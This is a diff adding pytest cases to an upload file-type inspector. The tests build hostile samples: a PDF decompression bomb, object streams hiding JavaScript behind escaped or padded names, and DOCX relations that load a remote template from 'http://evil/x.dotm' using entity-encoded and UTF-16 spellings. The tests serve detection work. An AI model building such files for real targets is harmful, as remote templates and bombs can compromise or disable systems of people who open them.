@@ -1,5 +1,8 @@
 """Files are what they say they are, or they stay outside."""
 
+import io
+import random
+import zipfile
 import zlib
 
 import pytest
@@ -31,6 +34,7 @@ def _rule(content: bytes, filename: str, claimed: str = "", allowed: frozenset[s
     (fault,) = refused.value.faults
     assert fault.field == "file"
     assert fault.message.vi != fault.message.en
+    assert fault.source
     return fault.rule
 
 
@@ -107,6 +111,46 @@ def test_a_document_with_macros_is_no_plain_document_whatever_its_name() -> None
     plain = files.docx()
     declared = b'<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
     assert _rule(files.packed(plain, {}, instead={"[Content_Types].xml": declared}), "a.docx") == "file-type"
+
+
+def test_a_page_description_whose_streams_unpack_to_too_much_together_is_a_bomb() -> None:
+    packed = zlib.compress(bytes(4 * 2**20))
+    stream = b"\n9 0 obj << /Type /ObjStm >> stream\n" + packed + b"\nendstream"
+    assert len(stream) < 10_000
+    assert _rule(files.pdf() + 8 * stream + b"\n%%EOF", "a.pdf") == "file-bomb"
+
+
+@pytest.mark.parametrize(
+    "head", [b"<< /Type /Obj#53tm >>", b"<< /Type /ObjStm /Filter /FlateDecode /X (" + b" " * 2000 + b") >>"]
+)
+def test_packed_objects_are_found_however_their_stream_is_described(head: bytes) -> None:
+    stream = b"\n9 0 obj " + head + b" stream\n" + zlib.compress(b"<< /S /JavaScript >>") + b"\nendstream\n%%EOF"
+    assert _rule(files.pdf() + stream, "a.pdf") == "file-active"
+
+
+def _related(relations: bytes) -> bytes:
+    made = io.BytesIO(files.docx())
+    with zipfile.ZipFile(made, "a", zipfile.ZIP_DEFLATED) as package:
+        package.writestr("word/_rels/more.xml.rels", relations)
+    return made.getvalue()
+
+
+@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
+@pytest.mark.parametrize("mode", ["External", "&#69;xternal"])
+def test_a_template_fetched_from_outside_is_found_in_any_writing(encoding: str, mode: str) -> None:
+    told = f'<Relationship Type="http://x/attachedTemplate" Target="http://evil/x.dotm" TargetMode="{mode}"/>'
+    assert _rule(_related(told.encode(encoding)), "a.docx") == "file-active"
+
+
+def test_a_link_outside_is_no_frame_whatever_its_address_says() -> None:
+    told = b'<Relationship Type="http://x/hyperlink" Target="https://x/frame" TargetMode="External"/>'
+    assert inspection.inspect(_related(told), "a.docx", "", _ALL) == "docx"
+
+
+def test_relations_are_read_once_however_they_are_written() -> None:
+    told = random.Random(1).randbytes(20_000).hex().encode() + b"frame" * 150_000
+    assert inspection.inspect(_related(told), "a.docx", "", _ALL) == "docx"
+    assert _rule(_related(told + random.Random(2).randbytes(300_000).hex().encode()), "a.docx") == "file-bomb"
 
 
 def test_a_picture_may_hold_bytes_that_look_like_a_script() -> None:
